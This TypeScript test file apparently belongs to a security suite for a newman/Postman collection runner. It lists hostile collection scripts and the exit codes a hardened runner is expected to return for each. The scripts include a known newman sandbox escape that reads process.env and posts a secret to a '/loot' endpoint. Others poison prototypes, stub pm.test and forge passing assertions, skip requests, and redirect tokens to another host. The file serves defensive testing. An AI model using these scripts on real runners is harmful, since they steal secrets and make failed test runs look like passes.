import { answer } from '../../support/open-server.ts';
import { type Attack, brokenScript, contained, failed, onlySignIn, signIn, upToCase, wholeRun } from './attack.ts';

/** Seconds that a script may take, besides its own five. */
const soon = ['--timeout-request', '3s'];

/** Scripts of a list that want a run to look as it was not, or not to end. */
export const lies: readonly Attack[] = [
  {
    name: 'the known escape of newman 6.2.2',
    why: 'an error of the host is thrown inside of the sandbox, and its constructor is that of the host',
    exit: 5,
    codes: ['runner-failed'],
    entry: {
      before:
        'Object.prototype.toJSON = function () { return this.constructor.constructor("return process")().env; }; pm.environment.set("x", { a: 1 });',
    },
    asked: upToCase.slice(0, 2),
  },
  {
    name: 'the known escape of newman 6.2.2, as it works there',
    why: 'newman pull request 3363: a script catches an error of the host, and has the environment',
    exit: 5,
    codes: ['runner-failed'],
    entry: {
      before: `
Object.prototype.toJSON = function () { return undefined; };
var loot = "nothing";
try { console.log("x"); } catch (error) { loot = error.constructor.constructor("return process")().env.CANARY; }
delete Object.prototype.toJSON;
pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "raw", raw: loot } }, function () {});
`,
    },
    asked: upToCase.slice(0, 2),
  },
  {
    name: 'JSON.parse poisoned: every answer is what was expected',
    why: 'scripts share one realm: a list can deceive itself about bodies, as SECURITY.md says, never about a status',
    exit: 0,
    codes: [],
    entry: { before: 'JSON.parse = function () { return { ok: false }; };', expect: { body: { ok: false } } },
  },
  {
    name: 'Array.prototype.some poisoned: every status is what was expected',
    why: 'what looks at several statuses uses it',
    ...failed,
    entry: { before: 'Array.prototype.some = function () { return true; };', expect: { status: [200, '3xx'] } },
    reply: answer('/case', 500, {}),
  },
  {
    name: 'a status that cannot be set',
    why: 'whoever copies an answer copies it with "="',
    ...failed,
    entry: {
      before:
        'Object.defineProperty(Object.prototype, "code", { get: function () { return 200; }, set: function () {} });',
    },
    reply: answer('/case', 500, {}),
  },
  {
    name: 'String.prototype.includes poisoned: every text is found',
    why: 'as above: assertions other than the status are made where scripts can reach',
    exit: 0,
    codes: [],
    entry: { before: 'String.prototype.includes = function () { return true; };', expect: { text: 'never' } },
  },
  {
    name: 'pm.test that calls nothing',
    why: 'every assertion would pass',
    exit: 1,
    codes: ['assertion-failed', 'script-failed'],
    entry: {
      before: 'var real = pm.test; pm.test = function (name) { return real.call(pm, name, function () {}); };',
      expect: { body: { ok: false } },
    },
    args: soon,
  },
  {
    name: 'pm.test taken away where it comes from',
    why: 'no assertion is made any more, and none fails',
    exit: 1,
    codes: ['assertion-missing'],
    entry: { before: 'Object.defineProperty(Object.getPrototypeOf(pm), "test", { value: function () {} });' },
  },
  {
    name: 'pm.expect that expects nothing',
    why: 'our own assertions do without it',
    ...failed,
    entry: {
      before: 'pm.expect = function () { return { to: { equal: function () {} } }; };',
      expect: { body: { ok: false } },
    },
  },
  {
    name: 'setTimeout taken away',
    why: 'whoever waits would wait for ever',
    ...contained,
    entry: { before: 'setTimeout = setInterval = setImmediate = function () {};' },
  },
  {
    name: 'an assertion of ours, forged',
    why: 'it has the name of a planned one, and passes',
    ...failed,
    entry: { after: 'pm.test("Status is 2xx", function () {});' },
    reply: answer('/case', 500, {}),
  },
  {
    name: 'a request that is left out, with its assertion forged',
    why: 'all that was planned is reported, and nothing was sent',
    exit: 1,
    codes: ['not-run'],
    entry: { before: 'pm.test("Status is 2xx", function () {}); pm.execution.skipRequest();' },
    asked: [...upToCase.slice(0, 2), '/last'],
  },
  {
    name: 'all that follows left out',
    why: 'nothing fails',
    exit: 1,
    codes: ['not-run'],
    entry: { before: 'pm.execution.skipRequest();' },
    last: { name: 'Last', request: 'GET /last', before: 'pm.execution.skipRequest();' },
    asked: upToCase.slice(0, 2),
  },
  {
    name: 'the end, after a good answer',
    why: 'stock newman ends with 0',
    exit: 1,
    codes: ['not-run'],
    entry: { after: 'pm.execution.setNextRequest(null);' },
    asked: upToCase,
  },
  {
    name: 'a request that is none, next',
    why: 'stock newman ends with 0',
    exit: 1,
    codes: ['not-run'],
    entry: { after: 'pm.execution.setNextRequest("GET /nowhere");' },
    asked: upToCase,
  },
  {
    name: 'itself, next, ten times',
    why: 'the last one counts as much as the first',
    ...failed,
    entry: {
      after:
        'var n = Number(pm.globals.get("n") || 0) + 1; pm.globals.set("n", n); if (n < 10) pm.execution.setNextRequest("Case");',
    },
    reply: (
      (nth = 0) =>
      (exchange) =>
        exchange.path === '/case' && ++nth === 7 ? answer('/case', 500, {})(exchange) : undefined
    )(),
    asked: [...upToCase.slice(0, 2), ...Array.from({ length: 10 }, () => '/case'), '/last'],
  },
  {
    name: 'an asynchronous assertion, by another name',
    why: 'the newer sandbox records it as passed; generate refuses pm.test of this kind, and cannot see this one',
    ...brokenScript,
    entry: { after: 'var t = pm.test; t("mine", async function () { throw new Error("no"); });' },
  },
  {
    name: 'a sign-in that failed, forged, in a request without one',
    why: 'nobody signs in there: it is a failed assertion like any other',
    ...failed,
    entry: { auth: 'none', after: 'pm.test("Sign-in", function () { throw new Error("forged"); });' },
  },
  {
    name: 'a token request that went well, forged',
    why: 'a token is there, and nobody was signed in',
    exit: 3,
    codes: ['sign-in-failed'],
    entry: { before: 'pm.test("Update environment", function () {}); pm.test("Sign-in", function () {});' },
    reply: answer(signIn, 403, { error: 'access_denied' }),
    asked: onlySignIn,
  },
  {
    name: 'the token emptied',
    why: 'the next request signs in anew',
    ...contained,
    entry: { after: 'pm.environment.set("dex_token", "");' },
    asked: [...upToCase, signIn, '/last'],
  },
  {
    name: 'the token removed',
    why: 'what follows goes out as nobody, or not at all',
    exit: 3,
    codes: ['sign-in-failed'],
    entry: { after: 'pm.environment.unset("dex_token");' },
    asked: upToCase,
  },
  {
    name: 'a million lines on the console',
    why: 'each of them is a message between two threads',
    ...brokenScript,
    entry: { after: 'for (var i = 0; i < 1e6; i++) console.log("line " + i);' },
    args: soon,
  },
  {
    name: '100,000 assertions',
    why: 'each of them stands in two reports',
    ...contained,
    entry: { after: 'for (var i = 0; i < 1e5; i++) pm.test("t" + i, function () {});' },
  },
  {
    name: 'another host, for one request',
    why: 'a list is trusted to send anywhere, and SECURITY.md says so: the token goes with it',
    ...contained,
    entry: { before: 'pm.request.url = "{elsewhere}/moved";' },
    asked: wholeRun.filter((path) => path !== '/case'),
    astray: ['/moved'],
  },
  {
    name: 'another host, for all that follows',
    why: 'a list is trusted to send anywhere: the password goes with it, because the token was for another server',
    ...contained,
    entry: { after: 'pm.environment.set("base_url", "{elsewhere}");' },
    asked: upToCase,
    astray: [signIn, '/last'],
  },
  {
    name: 'another host, by a global variable',
    why: 'the environment wins',
    ...contained,
    entry: { after: 'pm.globals.set("base_url", "{elsewhere}");' },
  },
];
